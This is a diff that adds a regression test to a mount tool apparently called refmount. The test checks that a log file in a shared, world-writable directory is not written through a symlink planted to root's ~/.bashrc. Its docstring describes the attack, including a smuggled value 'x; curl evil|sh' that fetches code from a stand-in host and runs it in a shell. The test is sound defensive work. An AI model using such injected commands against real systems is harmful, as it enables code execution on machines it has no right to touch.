@@ -323,3 +323,46 @@ def test_an_icechunk_manifest_that_inflates_past_max_refs_size_is_refused_before
         done = run_refmount("mount", "--dry-run", "--max-refs-size", "64M", server.url + "/repo/", tmp_path / "mnt")
         assert done.returncode != 0 and "exceeds --max-refs-size 64M once decompressed" in done.stderr, done.stderr
         assert len(done.stderr.strip().splitlines()) == 1
+
+
+def test_a_log_file_in_a_shared_directory_follows_no_planted_symlink(server, tmp_path):
+    """Attack: root mounts with `--log-file /tmp/refmount.log`; another user plants that name first, as
+    a symlink to root's ~/.bashrc (protected_symlinks is 0 here), and names an array 'x; curl evil|sh'.
+    Before: every log line was appended to the file the symlink led to. After: in a directory others
+    may write, the log is opened without following a symlink and must be the user's own; one line. In a
+    directory of one's own, a symlink is still followed (the user put it there)."""
+    from tests.conftest import run_refmount
+
+    if os.geteuid() != 0:
+        pytest.fail("this test needs root (a daemon of root, a file of another user)")
+    shared = tmp_path / "tmp"
+    shared.mkdir()
+    os.chmod(shared, 0o1777)
+    bashrc = tmp_path / "bashrc"
+    bashrc.write_text("# root's own\n")
+    (shared / "refmount.log").symlink_to(bashrc)
+    theirs = shared / "theirs.log"
+    theirs.write_text("")
+    os.chown(theirs, NOBODY, NOBODY)
+    refs = tmp_path / "refs.json"
+    refs.write_text(json.dumps({"version": 1, "refs": {".zgroup": '{"zarr_format": 2}'}}))
+    (tmp_path / "mnt").mkdir()
+
+    def mount_logging_to(log):
+        done = run_refmount("mount", "--log-file", log, refs, tmp_path / "mnt")
+        if done.returncode == 0:
+            run_refmount("umount", tmp_path / "mnt")
+        return done
+
+    done = mount_logging_to(shared / "refmount.log")
+    assert done.returncode != 0 and "is a symlink in a directory others may write" in done.stderr, done.stderr
+    assert bashrc.read_text() == "# root's own\n"
+    done = mount_logging_to(theirs)
+    assert done.returncode != 0 and "belongs to uid 65534" in done.stderr, done.stderr
+    assert theirs.read_text() == ""
+    mine = tmp_path / "mine"
+    mine.mkdir(mode=0o755)
+    (mine / "link.log").symlink_to(tmp_path / "real.log")
+    done = mount_logging_to(mine / "link.log")
+    assert done.returncode == 0, done.stderr
+    assert "mounted" in (tmp_path / "real.log").read_text()
